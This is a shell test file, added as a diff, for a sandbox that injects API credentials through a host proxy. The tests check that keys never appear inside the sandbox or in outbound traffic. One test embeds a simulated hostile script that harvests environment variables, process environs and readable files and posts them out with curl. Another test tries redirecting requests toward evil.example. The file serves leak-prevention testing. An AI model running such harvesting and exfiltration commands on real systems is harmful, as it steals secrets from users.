@@ -1,0 +1,393 @@
+#!/bin/sh
+# Credential injection: the sandbox gets a placeholder and a local endpoint,
+# the proxy on the host adds the real key on the way to the credential's
+# fixed upstream over TLS. The upstream is a loopback TLS stand-in
+# (tls-standin.py) with a test CA made here, reached through a
+# network.resolve pin given by --resolve; it records the request heads it
+# receives. Also --localhost and --resolve on their own.
+. "$(dirname "$0")/../lib.sh"
+
+STANDIN=$(cd "$(dirname "$0")" && pwd)/tls-standin.py
+KEY=sk-ant-test-$$-k3y9Zq7
+OKEY=sk-openai-test-$$-Xy41
+GKEY=ghp_test$$Token77
+
+py()
+{
+	if [ -x /usr/bin/python3 ]; then /usr/bin/python3 "$@"; else python3 "$@"; fi
+}
+
+# A CA (ca.pem) and, signed by it, a server certificate for the upstreams
+# (srv.pem, srv.key); with "other", a second CA signs it instead, which the
+# sandbox's config does not trust.
+make_certs()
+{
+	d=$T/pki
+	mkdir -p "$d"
+	(
+		cd "$d" || exit 1
+		openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.pem -days 2 \
+			-subj "/CN=agent-sandbox test CA" 2>/dev/null &&
+			openssl req -x509 -newkey rsa:2048 -nodes -keyout other.key -out other.pem \
+				-days 2 -subj "/CN=another CA" 2>/dev/null &&
+			openssl req -newkey rsa:2048 -nodes -keyout srv.key -out srv.csr \
+				-subj "/CN=api.anthropic.com" 2>/dev/null &&
+			printf 'subjectAltName=DNS:api.anthropic.com,DNS:api.openai.com,DNS:github.com,DNS:api.github.com\n' >ext ||
+			exit 1
+		signer=ca
+		[ "${1:-}" = other ] && signer=other
+		openssl x509 -req -in srv.csr -CA "$signer.pem" -CAkey "$signer.key" \
+			-CAcreateserial -out srv.pem -days 2 -extfile ext 2>/dev/null
+	) || fail "openssl could not make the test certificates"
+}
+
+# Starts the stand-in in MODE and sets $up_port; its log is $T/upstream.log.
+start_standin()
+{
+	: >"$T/upstream.log"
+	py "$STANDIN" "$T/pki/srv.pem" "$T/pki/srv.key" "$T/up.port" "$T/upstream.log" "$@" \
+		>/dev/null 2>&1 &
+	echo $! >>"$T/pids"
+	for _ in $(seq 100); do
+		[ -s "$T/up.port" ] && break
+		sleep 0.05
+	done
+	up_port=$(cat "$T/up.port" 2>/dev/null) || fail "the TLS stand-in did not start"
+}
+
+# The global config: every built-in credential trusts the test CA only.
+global_config()
+{
+	mkdir -p "$HOME/.config/agent-sandbox"
+	cat >"$HOME/.config/agent-sandbox/config.json" <<EOF
+{"credentials": {"anthropic": {"ca": "$T/pki/ca.pem"},
+                 "openai": {"ca": "$T/pki/ca.pem"},
+                 "github": {"ca": "$T/pki/ca.pem"}}}
+EOF
+}
+
+setup_upstream()
+{
+	make_certs "${2:-}"
+	global_config
+	start_standin "$1" "${3:-}"
+}
+
+# Runs ARGS in the sandbox with the anthropic credential on and the
+# upstream pinned to the stand-in.
+sbx_anthropic()
+{
+	rc=0
+	ANTHROPIC_API_KEY=$KEY timeout 60 "$AS" --credential anthropic \
+		--resolve "api.anthropic.com=127.0.0.1:$up_port" "$@" >"$T/out" 2>"$T/err" \
+		</dev/null || rc=$?
+}
+
+expect_upstream_has()
+{
+	grep -qF -- "$1" "$T/upstream.log" || fail "the upstream did not receive '$1': $(head -c 800 "$T/upstream.log")"
+}
+
+expect_upstream_lacks()
+{
+	! grep -qiF -- "$1" "$T/upstream.log" || fail "the upstream received '$1': $(head -c 800 "$T/upstream.log")"
+}
+
+test_key_reaches_upstream_in_header_when_injected()
+{
+	setup_upstream ok
+	sbx_anthropic sh -c 'curl -sS --max-time 20 -d "{\"m\":1}" "$ANTHROPIC_BASE_URL/v1/messages"'
+	expect_status 0
+	expect_out_contains "from-upstream"
+	expect_upstream_has "x-api-key: $KEY"
+	expect_upstream_has "POST /v1/messages HTTP/1.1"
+	expect_upstream_has "Host: api.anthropic.com"
+	# OpenAI: Bearer, and the base URL carries /v1 as its SDKs expect.
+	rc=0
+	OPENAI_API_KEY=$OKEY timeout 60 "$AS" --credential openai \
+		--resolve "api.openai.com=127.0.0.1:$up_port" \
+		sh -c 'echo "$OPENAI_BASE_URL"; curl -sS --max-time 20 -d "{}" "$OPENAI_BASE_URL/responses"' \
+		>"$T/out" 2>"$T/err" </dev/null || rc=$?
+	expect_status 0
+	expect_out_contains "/v1"
+	expect_out_contains "from-upstream"
+	expect_upstream_has "Authorization: Bearer $OKEY"
+	expect_upstream_has "POST /v1/responses HTTP/1.1"
+	expect_upstream_has "Host: api.openai.com"
+}
+
+test_key_is_absent_from_every_environ_inside()
+{
+	setup_upstream ok
+	# shellcheck disable=SC2016
+	sbx_anthropic sh -c 'echo "key=$ANTHROPIC_API_KEY"; cat /proc/[0-9]*/environ | tr "\0" "\n"' \
+		>/dev/null
+	expect_status 0
+	expect_out_contains "key=agent-sandbox-credential-"
+	expect_out_contains "ANTHROPIC_BASE_URL=http://127.0.0.1:"
+	expect_out_lacks "$KEY"
+	expect_err_lacks "$KEY"
+}
+
+# A tiny HTTP server on the host's loopback that appends every POST body
+# to $T/traffic; sets $rec_port.
+start_recorder()
+{
+	: >"$T/traffic"
+	py -c '
+import http.server, os, sys
+class H(http.server.BaseHTTPRequestHandler):
+    def do_POST(self):
+        n = int(self.headers.get("Content-Length", 0))
+        with open(sys.argv[2], "ab") as f:
+            f.write(bytes(self.requestline, "latin-1") + b"\n" + bytes(str(self.headers), "latin-1") + self.rfile.read(n))
+        self.send_response(200); self.send_header("Content-Length", "0"); self.end_headers()
+    def log_message(self, *a): pass
+s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+open(sys.argv[1] + ".tmp", "w").write(str(s.server_address[1]))
+os.rename(sys.argv[1] + ".tmp", sys.argv[1])
+s.serve_forever()
+' "$T/rec.port" "$T/traffic" >/dev/null 2>&1 &
+	echo $! >>"$T/pids"
+	for _ in $(seq 100); do
+		[ -s "$T/rec.port" ] && break
+		sleep 0.05
+	done
+	rec_port=$(cat "$T/rec.port" 2>/dev/null) || fail "the recorder did not start"
+}
+
+test_key_is_absent_from_files_and_traffic_inside()
+{
+	setup_upstream ok
+	start_recorder
+	# A copy of the key under a name the secret filter does not know:
+	# it must be dropped too. The hostile inside gathers its environment,
+	# every process's, and every readable small file it can find, then
+	# sends it all out through --localhost, and through the injection
+	# endpoint itself (which the stand-in records).
+	cat >"$T/work/gather.sh" <<'EOF'
+{
+	env
+	cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline
+	find /etc /run /tmp /home "$HOME" "$PWD" -xdev -type f -readable \
+		-size -256k 2>/dev/null | while read -r f; do cat "$f"; done
+} >/dev/shm/all 2>/dev/null
+wc -c </dev/shm/all
+curl -sS --max-time 30 --data-binary @/dev/shm/all "http://127.0.0.1:$1/dump" >/dev/null
+curl -sS --max-time 30 --data-binary @/dev/shm/all "$ANTHROPIC_BASE_URL/v1/messages" >/dev/null
+EOF
+	rc=0
+	COPY_OF_IT="prefix-$KEY" ANTHROPIC_API_KEY=$KEY timeout 120 "$AS" --credential anthropic \
+		--resolve "api.anthropic.com=127.0.0.1:$up_port" --localhost "$rec_port" \
+		sh gather.sh "$rec_port" >"$T/out" 2>"$T/err" </dev/null || rc=$?
+	expect_status 0
+	[ "$(cat "$T/out")" -gt 1000 ] || fail "gathered too little: $(cat "$T/out") bytes"
+	[ -s "$T/traffic" ] || fail "nothing reached the recorder"
+	grep -qF "agent-sandbox-credential-" "$T/traffic" || fail "the dump lacks the placeholder: the test sees nothing"
+	! grep -qF -- "$KEY" "$T/traffic" || fail "the key left the sandbox"
+	grep -qF "COPY_OF_IT" "$T/traffic" && fail "a variable holding the key reached the sandbox"
+	# Through the endpoint, the key appears once: in the header the
+	# proxy added, never in the body the sandbox sent.
+	[ "$(grep -cF -- "$KEY" "$T/upstream.log")" -eq 1 ] ||
+		fail "the key appears $(grep -cF -- "$KEY" "$T/upstream.log") times at the upstream"
+	expect_upstream_has "x-api-key: $KEY"
+}
+
+test_agent_sent_auth_header_is_replaced()
+{
+	setup_upstream ok
+	sbx_anthropic sh -c 'curl -sS --max-time 20 -H "x-api-key: agent-made-up" \
+		-H "Authorization: Bearer agent-bearer" -H "Proxy-Authorization: Basic eA==" \
+		-H "X-API-KEY: shouty" -d "{}" "$ANTHROPIC_BASE_URL/v1/messages"'
+	expect_status 0
+	expect_out_contains "from-upstream"
+	expect_upstream_has "x-api-key: $KEY"
+	expect_upstream_lacks "agent-made-up"
+	expect_upstream_lacks "agent-bearer"
+	expect_upstream_lacks "shouty"
+	expect_upstream_lacks "Proxy-Authorization"
+	[ "$(grep -ciF "x-api-key:" "$T/upstream.log")" -eq 1 ] || fail "more than one x-api-key header"
+}
+
+test_upstream_cannot_be_redirected()
+{
+	setup_upstream ok
+	# shellcheck disable=SC2016
+	sbx_anthropic sh -c '
+		curl -sS --max-time 20 -H "Host: evil.example" -d "{}" "$ANTHROPIC_BASE_URL/v1/a"; echo
+		curl -sS --max-time 20 --request-target "http://evil.example/v1/b" "$ANTHROPIC_BASE_URL/"; echo
+		curl -sS --max-time 20 -X CONNECT --request-target "evil.example:443" "$ANTHROPIC_BASE_URL/"; echo
+		curl -sS --max-time 20 "$ANTHROPIC_BASE_URL//evil.example/v1/c"; echo'
+	expect_status 0
+	expect_out_contains "from-upstream"
+	expect_out_contains "origin-form"
+	expect_upstream_has "POST /v1/a HTTP/1.1"
+	expect_upstream_lacks "Host: evil.example"
+	expect_upstream_lacks "/v1/b"
+	expect_upstream_lacks "CONNECT evil"
+	# A path that looks like an authority is a path at the fixed upstream.
+	expect_upstream_has "GET //evil.example/v1/c HTTP/1.1"
+	[ "$(grep -c "^Host: api.anthropic.com" "$T/upstream.log")" -eq 2 ] ||
+		fail "expected two requests at api.anthropic.com: $(cat "$T/upstream.log")"
+}
+
+test_sse_stream_is_not_buffered()
+{
+	setup_upstream sse "" "$T/work/got-first"
+	# The stand-in sends the second event only once the client inside
+	# wrote got-first on seeing the first: a proxy that holds bytes back
+	# deadlocks, and the timeout fails the test.
+	# shellcheck disable=SC2016
+	sbx_anthropic sh -c 'curl -sSN --max-time 30 -d "{}" "$ANTHROPIC_BASE_URL/v1/messages" |
+		while IFS= read -r line; do
+			case $line in
+			*first*) : >got-first ;;
+			*second*) echo "got both"; exit 0 ;;
+			esac
+		done'
+	expect_status 0
+	expect_out_contains "got both"
+}
+
+test_certificate_is_verified()
+{
+	setup_upstream ok other
+	sbx_anthropic sh -c 'curl -sS --max-time 20 -i -d "{}" "$ANTHROPIC_BASE_URL/v1/messages"'
+	expect_out_contains "502"
+	expect_out_contains "not trusted"
+	expect_out_lacks "from-upstream"
+	grep -qF "TLS-FAILED" "$T/upstream.log" || fail "the stand-in saw no refused handshake"
+	expect_upstream_lacks "$KEY"
+	log="$HOME/.local/state/agent-sandbox/audit.jsonl"
+	grep '"credential"' "$log" | grep -q '"status": *502' ||
+		fail "no audit record of the refused request: $(grep network "$log" | tail -3)"
+	! grep -qF -- "$KEY" "$log" || fail "the key is in the audit log"
+}
+
+test_credentials_in_project_config_are_refused()
+{
+	echo '{"credentials": {"anthropic": {"env": "ANTHROPIC_API_KEY"}}}' >.agent-sandbox.json
+	: >"$T/ran"
+	rm "$T/ran"
+	ANTHROPIC_API_KEY=$KEY sbx touch "$T/ran"
+	expect_status 2
+	expect_err_contains "belong in your global config"
+	expect_err_contains ".agent-sandbox.json:1:"
+	expect_no_file "$T/ran"
+	# --config is not the global config either.
+	echo '{"credentials": {"x": {"file": "/etc/hostname", "hosts": ["api.x.example"]}}}' >"$T/c.json"
+	sbx --config "$T/c.json" true
+	expect_status 2
+	expect_err_contains "belong in your global config"
+}
+
+test_missing_key_is_an_error()
+{
+	make_certs
+	global_config
+	unset ANTHROPIC_API_KEY
+	sbx --credential anthropic touch "$T/ran"
+	expect_status 2
+	expect_err_contains "ANTHROPIC_API_KEY is not set"
+	expect_no_file "$T/ran"
+	sbx --credential nosuch touch "$T/ran"
+	expect_status 2
+	expect_err_contains "unknown credential \"nosuch\""
+	expect_no_file "$T/ran"
+	# An empty key file is no key either.
+	: >"$T/keyfile"
+	cat >"$HOME/.config/agent-sandbox/config.json" <<EOF
+{"credentials": {"x": {"file": "$T/keyfile", "hosts": ["api.x.example"]}}}
+EOF
+	sbx --credential x touch "$T/ran"
+	expect_status 2
+	expect_err_contains "empty"
+	expect_no_file "$T/ran"
+}
+
+test_key_file_is_hidden_inside_and_injected()
+{
+	make_certs
+	start_standin ok
+	printf '%s\n' "$KEY" >"$HOME/x.key"
+	mkdir -p "$HOME/.config/agent-sandbox"
+	cat >"$HOME/.config/agent-sandbox/config.json" <<EOF
+{"credentials": {"x": {"file": "~/x.key", "hosts": ["api.x.example"],
+                       "header": "X-Custom-Key", "base-url-env": "X_BASE_URL",
+                       "ca": "$T/pki/ca.pem"}}}
+EOF
+	# The certificate does not name api.x.example: the request fails, but
+	# only after the key file was read on the host.
+	sbx --credential x --resolve "api.x.example=127.0.0.1:$up_port" --rw "$HOME" \
+		sh -c 'cat ~/x.key; echo "url=$X_BASE_URL"; curl -sS --max-time 20 -d "{}" "$X_BASE_URL/q"'
+	expect_out_lacks "$KEY"
+	expect_out_contains "url=http://127.0.0.1:"
+	expect_out_contains "not trusted"
+	expect_upstream_lacks "$KEY"
+}
+
+test_localhost_flag_reaches_host_port()
+{
+	mkdir "$T/site"
+	echo "hello from the host" >"$T/site/hello.txt"
+	start_http_server "$T/site"
+	sbx --localhost "$http_port" curl -sS --max-time 10 "http://127.0.0.1:$http_port/hello.txt"
+	expect_status 0
+	expect_out "hello from the host"
+	# Without the flag the port is not reachable.
+	sbx curl -sS --max-time 10 "http://127.0.0.1:$http_port/hello.txt"
+	[ "$rc" -ne 0 ] || fail "the port was reachable without --localhost"
+}
+
+test_resolve_flag_pins_name()
+{
+	mkdir "$T/site"
+	echo "pinned page" >"$T/site/p.txt"
+	start_http_server "$T/site"
+	sbx --resolve "pinned.test=127.0.0.1:$http_port" --allow-host pinned.test \
+		curl -sS --max-time 10 "http://pinned.test:$http_port/p.txt"
+	expect_status 0
+	expect_out "pinned page"
+	# The pin opens that port only.
+	sbx --resolve "pinned.test=127.0.0.1:$http_port" --allow-host pinned.test \
+		curl -fsS --max-time 10 "http://pinned.test:1/p.txt"
+	[ "$rc" -ne 0 ] || fail "a pinned name reached another port"
+	expect_out_lacks "pinned page"
+}
+
+test_bad_flag_values_are_usage_errors()
+{
+	for v in 0 65536 abc 80x ""; do
+		sbx --localhost "$v" true
+		expect_status 2
+		expect_err_contains "--localhost"
+	done
+	for v in nopin name= =127.0.0.1 name=not-an-ip 127.0.0.1=127.0.0.1 "name=1.2.3.4:99999"; do
+		sbx --resolve "$v" true
+		expect_status 2
+		expect_err_contains "NAME=ADDR[:PORT]"
+	done
+	sbx --credential 'Bad Name' true
+	expect_status 2
+	expect_err_contains "expected a credential name"
+	sbx --credential anthropic --network=true true
+	expect_status 2
+	expect_err_contains "cannot be combined"
+}
+
+test_git_https_gets_basic_auth()
+{
+	setup_upstream 401
+	rc=0
+	GITHUB_TOKEN=$GKEY timeout 60 "$AS" --credential github \
+		--resolve "github.com=127.0.0.1:$up_port" \
+		sh -c 'env | grep -c "$GITHUB_TOKEN" >/dev/null; git clone -q https://github.com/x/y.git y' \
+		>"$T/out" 2>"$T/err" </dev/null || rc=$?
+	expected=$(printf 'x-access-token:%s' "$GKEY" | base64 | tr -d '\n')
+	expect_upstream_has "Authorization: Basic $expected"
+	expect_upstream_has "GET /x/y.git/info/refs?service=git-upload-pack HTTP/1.1"
+	expect_upstream_has "Host: github.com"
+	expect_err_lacks "$GKEY"
+}
+
+run_tests
